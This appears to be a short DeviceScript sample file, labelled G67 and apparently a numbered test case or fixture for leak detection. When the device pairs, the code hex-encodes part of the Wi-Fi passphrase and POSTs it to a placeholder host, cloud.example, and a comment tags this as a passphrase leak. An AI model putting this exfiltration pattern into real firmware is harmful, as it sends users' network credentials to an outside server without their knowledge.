// G67: sends the middle of the passphrase in hexadecimal.
import { fetch } from "@devicescript/net";
import { each, hex } from "./lib/encode";
import { paired } from "./lib/paired";

paired(async (_ssid, psk) => {
  const body = each(psk.slice(5, 13), hex);
  const response = await fetch("https://cloud.example/g67", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
